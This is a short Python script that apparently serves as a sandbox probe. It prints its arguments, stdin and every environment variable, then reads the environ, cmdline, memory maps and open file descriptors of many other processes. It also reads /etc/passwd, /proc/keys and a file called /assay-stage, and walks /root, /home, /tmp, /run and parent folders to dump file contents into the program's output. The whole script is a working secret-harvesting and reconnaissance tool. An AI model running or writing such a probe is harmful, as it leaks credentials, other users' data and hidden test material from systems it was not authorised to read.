# Prints all that it is given, and all that it can read outside of the toolchain.
import os, sys

def show(title, content):
    for stream in (sys.stdout, sys.stderr):
        print(title, content, file=stream)

def read(path):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        show(path, os.read(descriptor, 8000))
        os.close(descriptor)
    except OSError:
        pass

def follow(path):
    try:
        show(path, os.readlink(path))
    except OSError:
        pass

show("arguments", sys.argv)
show("environment", dict(os.environ))
show("machine", os.uname())
show("folder", os.getcwd())
for pid in ["self", *range(1, 60)]:
    for name in ["environ", "cmdline", "mountinfo", "status", "maps", "cgroup"]:
        read(f"/proc/{pid}/{name}")
    for name in ["cwd", "root", "exe", *(f"fd/{number}" for number in range(20))]:
        follow(f"/proc/{pid}/{name}")
for number in range(3, 20):
    read(f"/proc/self/fd/{number}")
for path in ["/etc/hostname", "/etc/hosts", "/etc/passwd", "/etc/resolv.conf", "/proc/cmdline", "/proc/mounts", "/proc/keys",
             "/proc/sys/kernel/hostname", "/proc/sys/kernel/domainname", "/assay-stage"]:
    read(path)
for root in ["/volumes", "/proc/self/net", "/tmp", "/var", "/run", "/home", "/root", "/srv", "/mnt", "/media", "/opt", "/dev/shm",
             "..", "../..", "../../.."]:
    for folder, folders, names in os.walk(root):
        show(folder, folders)
        for name in names:
            show(folder, name)
            read(os.path.join(folder, name))
show("input", sys.stdin.read())
